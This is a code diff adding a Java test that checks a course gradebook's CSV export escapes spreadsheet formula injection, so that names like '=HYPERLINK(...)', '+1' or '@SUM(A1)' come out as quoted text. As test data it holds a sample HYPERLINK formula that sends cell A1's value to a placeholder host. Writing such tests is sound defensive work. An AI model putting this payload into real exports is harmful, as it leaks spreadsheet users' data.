@@ -79,6 +79,26 @@ class GradebookTest {
     }
 
     @Test
+    void csvCellsThatASpreadsheetWouldRunAsFormulasAreExportedAsText() throws Exception {
+        var world = data.world(QuizService.Settings.practice(), "padding-output-shape");
+        String formula = "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")";
+        data.rename(world.student(), formula);
+        data.rename(world.other(), "-2+3");
+        String csv = Session.login(world.instructor(), TestData.PASSWORD).request().accept("text/csv")
+                .get("/courses/" + world.courseId() + "/gradebook.csv").then().statusCode(200).extract().asString();
+        List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(csv.replace("\uFEFF", ""))).getRecords();
+        for (CSVRecord r : records) {
+            String expected = r.get("username").equals(world.student()) ? "'" + formula : "'-2+3";
+            assertEquals(expected, r.get("name"), "shown as text, not run");
+        }
+        for (String[] c : new String[][] {{"+1", "'+1"}, {"@SUM(A1)", "'@SUM(A1)"}, {"\tx", "'\tx"}, {"\rx", "'\rx"},
+            {"a=b", "a=b"}, {"", ""}, {"李雷", "李雷"}}) {
+            assertEquals(c[1], CsvCells.safe(c[0]));
+        }
+    }
+
+    @Test
     void onlyTheCoursesInstructorsSeeIt() {
         var world = data.world(QuizService.Settings.practice(), "padding-output-shape");
         Session.login(world.student(), TestData.PASSWORD).get("/courses/" + world.courseId() + "/gradebook").then().statusCode(403);
